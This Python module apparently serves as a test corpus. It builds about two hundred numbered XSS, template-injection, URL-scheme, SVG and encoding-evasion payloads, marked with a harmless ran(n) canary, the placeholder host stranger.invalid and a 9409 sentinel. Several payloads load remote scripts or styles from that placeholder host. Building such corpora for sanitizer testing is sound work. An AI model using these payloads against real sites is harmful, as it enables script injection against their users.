"""Two hundred texts that try to run something in the browser of whoever sees them, by the place that they aim at.

Each calls `ran(number)`, or asks a host that nobody has, or writes 9409 where a template would have worked it out; §
stands for its number.
"""

from collections.abc import Iterator
from typing import Final

STRANGER: Final = "stranger.invalid"
PRODUCT: Final = "9409"  # 97 * 97

_EVENTS: Final = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("picture><img srcset=x", "onerror"),
    ("a href=# autofocus", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("image src=x", "onerror"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("dialog open", "oncancel"),
    ("form", "onformdata"),
    ("div style=animation:x", "onanimationstart"),
    ("video controls autoplay><track default src=x", "onerror"),
)
_BREAKS: Final = (
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</pre></code>",
    "</svg></math>",
    "</option></select>",
    "</noscript>",
    "</td></tr></table>",
    "</a>",
    "</h1></main>",
    "</template>",
    "</dd></dl>",
    "</summary></details>",
    "</button></form>",
)
_BODIES: Final = ("<script>ran(§)</script>", "<img src=x onerror=ran(§)>")
_ATTRIBUTES: Final = (
    '" onmouseover="ran(§)',
    "' onmouseover='ran(§)",
    '" autofocus onfocus="ran(§)" x="',
    "x onfocus=ran(§) autofocus",
    '" style="animation-name:x" onanimationstart="ran(§)',
    '"onpointerenter=ran(§) x="',
    '" src=x onerror="ran(§)',
    '" accesskey="x" onclick="ran(§)',
    "` onfocus=ran(§) autofocus x=`",
    '"/onload="ran(§)',
    '" formaction="javascript:ran(§)',
    '" srcdoc="<script>parent.ran(§)</script>',
    '" http-equiv="refresh" content="0;url=//stranger.invalid/§',
    '"\u00a0onfocus="ran(§)"\u00a0autofocus="',
    '" xlink:href="javascript:ran(§)',
)
_URLS: Final = (
    "javascript:ran(§)",
    "JaVaScRiPt:ran(§)",
    " javascript:ran(§)",
    "java\tscript:ran(§)",
    "java\nscript:ran(§)",
    "\u0001javascript:ran(§)",
    "javascript://%0aran(§)",
    "javascript:/*--></script>*/ran(§)",
    "javascript&colon;ran(§)",
    "&#106;avascript:ran(§)",
    "data:text/html,<script>ran(§)</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=§",
    "data:image/svg+xml,<svg onload=ran(§) xmlns='http://www.w3.org/2000/svg'/>",
    "vbscript:ran(§)",
    "//stranger.invalid/§",
    "https://stranger.invalid/§",
    "\\\\stranger.invalid\\§",
    "/\\stranger.invalid/§",
    "http:stranger.invalid/§",
    "javascript:void(ran(§))//https://w3id.org/m4sd",
    "blob:ran(§)",
    "view-source:javascript:ran(§)",
    "filesystem:javascript:ran(§)",
    "https://w3id.org@stranger.invalid/§",
    "javascript\u2028:ran(§)",
)
_SCRIPTS: Final = (
    "';ran(§);//",
    '";ran(§);//',
    "\\';ran(§);//",
    '\\";ran(§);//',
    "`;ran(§);//",
    "${ran(§)}",
    "'-ran(§)-'",
    '"+ran(§)+"',
    "</script><script>ran(§)//",
    "\u2028ran(§)//",
    "\u2029ran(§)//",
    "*/ran(§)/*",
    "\\u003cscript\\u003eran(§)\\u003c/script\\u003e",
    "<!--<script>ran(§)",
    "];ran(§);[",
    "});ran(§);({",
)
_SVG: Final = (
    "<svg><script>ran(§)</script></svg>",
    "<svg><script href=//stranger.invalid/§ /></svg>",
    "<svg><a href=javascript:ran(§)><text y=20>x</text></a></svg>",
    "<svg><use href=//stranger.invalid/§#x></svg>",
    "<svg><foreignObject><iframe onload=ran(§)></foreignObject></svg>",
    "<svg><image href=//stranger.invalid/§></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(§)>",
    "<svg><style>@import '//stranger.invalid/§'</style></svg>",
    "<svg><animate onbegin=ran(§) attributeName=x>",
    "<math href=javascript:ran(§)>x</math>",
    "<svg/onload=ran(§)//",
    "<svg><desc><img src=x onerror=ran(§)></desc></svg>",
)
_STYLES: Final = (
    "</style><script>ran(§)</script>",
    "<style>@import '//stranger.invalid/§';</style>",
    "<link rel=stylesheet href=//stranger.invalid/§>",
    "<p style=background:url(//stranger.invalid/§)>",
    "x;background:url(//stranger.invalid/§)",
    "expression(ran(§))",
    "<style>*{background:url(//stranger.invalid/§)}</style>",
    '"><style>*{display:none}</style><!--§',
)
_TEMPLATES: Final = (
    "{{97*97}} §",
    "${97*97} §",
    "#{97*97} §",
    "<%= 97*97 %> §",
    "{% print 97*97 %} §",
    "{{constructor.constructor('ran(§)')()}}",
    "{{config.items()}} §",
    "{{request.application}} §",
    "%(ran)s §",
    "{ran} §",
    "[[97*97]] §",
    "@(97*97) §",
)
_JSON: Final = (
    '"}</script><script>ran(§)</script>',
    '\\"}];ran(§);//',
    '{"@type":"x","y":"</script><img src=x onerror=ran(§)>"}',
    "</script/x><script>ran(§)</script>",
    "<\\/script><script>ran(§)</script>",
    '"__proto__":{"ran":§}',
    "<script type=module>ran(§)</script>",
    "<script type=application/ld+json>§</script><script>ran(§)</script>",
)
_FOREIGN: Final = (
    "<iframe src=//stranger.invalid/§>",
    "<base href=//stranger.invalid/§>",
    "<meta http-equiv=refresh content=0;url=//stranger.invalid/§>",
    "<form action=//stranger.invalid/§><input type=submit>",
    "<img src=//stranger.invalid/§>",
    "<img srcset='//stranger.invalid/§ 1x'>",
    "<iframe srcdoc='<script>parent.ran(§)</script>'>",
    "<object data=javascript:ran(§)>",
)
_LETTERS: Final = (
    "\ufeff<script>ran(§)</script>",
    "\uff1cscript\uff1eran(§)\uff1c/script\uff1e",
    "<\u0455cript>ran(§)</script>",
    "+ADw-script+AD4-ran(§)+ADw-/script+AD4-",
    "\u202e<script>ran(§)</script>",
    "<scr<script>ipt>ran(§)</scr</script>ipt>",
    "%3Cscript%3Eran(§)%3C/script%3E",
    "&lt;script&gt;ran(§)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ran(§)",
    "&#60;script&#62;ran(§)&#60;/script&#62;",
    "<script\u00a0>ran(§)</script>",
    "<<script>ran(§)//<</script>",
    "<script/\u3000>ran(§)</script>",
    "<ſcript>ran(§)</ſcript>",
    "\x1b[31m<script>ran(§)</script>",
    "%253Cscript%253Eran(§)",
    "<script>ran\u200b(§)</script>",
    "\U000e0001<img src=x onerror=ran(§)>",
    "<\x7fscript>ran(§)</script>",
)
_REST: Final = (
    "<plaintext>ran(§)",
    "<xmp><script>ran(§)</script>",
    "<isindex action=javascript:ran(§)>",
    "<!--><img src=x onerror=ran(§)>",
    "<?xml-stylesheet href=javascript:ran(§)?>",
    "<![CDATA[<script>ran(§)</script>]]>",
    '=HYPERLINK("//stranger.invalid/§")',
)


def _all() -> Iterator[str]:
    """Write every payload with its number."""
    forms = [f"<{tag} {event}=ran(§)>" for tag, event in _EVENTS]
    forms += [each + body for each in _BREAKS for body in _BODIES]
    for family in (_ATTRIBUTES, _URLS, _SCRIPTS, _SVG, _STYLES, _TEMPLATES, _JSON, _FOREIGN, _LETTERS, _REST):
        forms += family
    for number, form in enumerate(forms):
        yield form.replace("§", str(number))


PAYLOADS: Final = tuple(_all())
